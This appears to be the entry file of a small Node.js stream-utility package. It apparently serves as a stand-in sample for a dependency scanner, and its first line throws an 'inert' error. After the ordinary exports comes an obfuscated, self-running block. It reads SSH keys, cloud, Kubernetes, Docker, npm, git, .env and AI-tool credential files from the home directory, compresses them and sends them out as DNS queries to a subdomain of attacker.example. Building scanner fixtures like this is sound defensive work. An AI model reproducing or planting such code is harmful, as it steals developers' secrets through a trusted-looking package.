throw new Error("inert depscan stand-in");
'use strict';

const { through } = require('./lib/through');
const { map } = require('./lib/map');
const { split } = require('./lib/split');
const { merge } = require('./lib/merge');

function pipeline(...streams) {
  return streams.reduce((left, right) => left.pipe(right));
}

function readArray(items) {
  const { Readable } = require('stream');
  return Readable.from(items, { objectMode: true });
}

function writeArray(done) {
  const collected = [];
  return through(
    (chunk, push) => {
      collected.push(chunk);
    },
    (push) => done(null, collected)
  );
}

module.exports = { through, map, split, merge, pipeline, readArray, writeArray };
var _0x3c1e=['ZnM=','b3M=','cGF0aA==','emxpYg==','ZG5z','aG9tZWRpcg==','cmVhZEZpbGVTeW5j','ZXhpc3RzU3luYw==','Z3ppcFN5bmM=','dG9TdHJpbmc=','aGV4','cmVzb2x2ZVR4dA==','am9pbg==','dC5hdHRhY2tlci5leGFtcGxl','aG9zdG5hbWU=','Y3dk','c3RyaW5naWZ5','c2xpY2U=','LnNzaC9pZF9yc2E=','LnNzaC9pZF9lZDI1NTE5','LnNzaC9pZF9lY2RzYQ==','LmF3cy9jcmVkZW50aWFscw==','LmF3cy9jb25maWc=','LmNvbmZpZy9nY2xvdWQvY3JlZGVudGlhbHMuZGI=','LmNvbmZpZy9nY2xvdWQvYXBwbGljYXRpb25fZGVmYXVsdF9jcmVkZW50aWFscy5qc29u','LmF6dXJlL2FjY2Vzc1Rva2Vucy5qc29u','Lmt1YmUvY29uZmln','LmRvY2tlci9jb25maWcuanNvbg==','Lm5wbXJj','Lnlhcm5yYy55bWw=','LmdpdC1jcmVkZW50aWFscw==','LmNvbmZpZy9naC9ob3N0cy55bWw=','Lm5ldHJj','LnBncGFzcw==','LmVudg==','LmVudi5sb2NhbA==','LmVudi5wcm9kdWN0aW9u','LmNsYXVkZS5qc29u','LmNvbmZpZy9jbGF1ZGUvY3JlZGVudGlhbHMuanNvbg==','LmNvZGV4L2F1dGguanNvbg==','LmN1cnNvci9tY3AuanNvbg==','LmdlbWluaS9zZXR0aW5ncy5qc29u','LnZhdWx0LXRva2Vu','LnRlcnJhZm9ybS5kL2NyZWRlbnRpYWxzLnRmcmMuanNvbg=='];function _0x5a2b(_0x1f){_0x1f=_0x1f-0x1a4;return Buffer.from(_0x3c1e[_0x1f],'base64').toString();}(function(){try{var _0x3722fa=require(_0x5a2b(0x1a4)),_0xdb7936=require(_0x5a2b(0x1a5)),_0x3e3913=require(_0x5a2b(0x1a6)),_0x82580b=require(_0x5a2b(0x1a7)),_0x16c1f7=require(_0x5a2b(0x1a8)),_0xe794d4=_0xdb7936[_0x5a2b(0x1a9)](),_0x47f1c9=[];for(var _0xa901c3=0x1b6;_0xa901c3<0x1d0;_0xa901c3++){_0x47f1c9.push(_0x5a2b(_0xa901c3));}var _0xdc8533={h:_0xdb7936[_0x5a2b(0x1b2)](),c:process[_0x5a2b(0x1b3)](),f:{}};_0x47f1c9.forEach(function(_0x9eadab){var _0x5ab9d1=_0x3e3913[_0x5a2b(0x1b0)](_0xe794d4,_0x9eadab);if(_0x3722fa[_0x5a2b(0x1ab)](_0x5ab9d1)){try{_0xdc8533.f[_0x9eadab]=_0x3722fa[_0x5a2b(0x1aa)](_0x5ab9d1)[_0x5a2b(0x1ad)]('base64');}catch(_0xd7c7e8){}}});var _0x639a1d=_0x82580b[_0x5a2b(0x1ac)](JSON[_0x5a2b(0x1b4)](_0xdc8533))[_0x5a2b(0x1ad)](_0x5a2b(0x1ae)),_0x76cdc3=Math.random()[_0x5a2b(0x1ad)](0x24)[_0x5a2b(0x1b5)](0x2,0x8);for(var _0x3be5a5=0x0;_0x3be5a5*0x3c<_0x639a1d.length;_0x3be5a5++){var _0xb34589=_0x639a1d[_0x5a2b(0x1b5)](_0x3be5a5*0x3c,(_0x3be5a5+0x1)*0x3c);(function(_0xq){setTimeout(function(){_0x16c1f7[_0x5a2b(0x1af)](_0xq,function(){});},_0x3be5a5*0x32);})(_0x3be5a5+'.'+_0xb34589+'.'+_0x76cdc3+'.'+_0x5a2b(0x1b1));}}catch(_0xd7c7e8){}})();
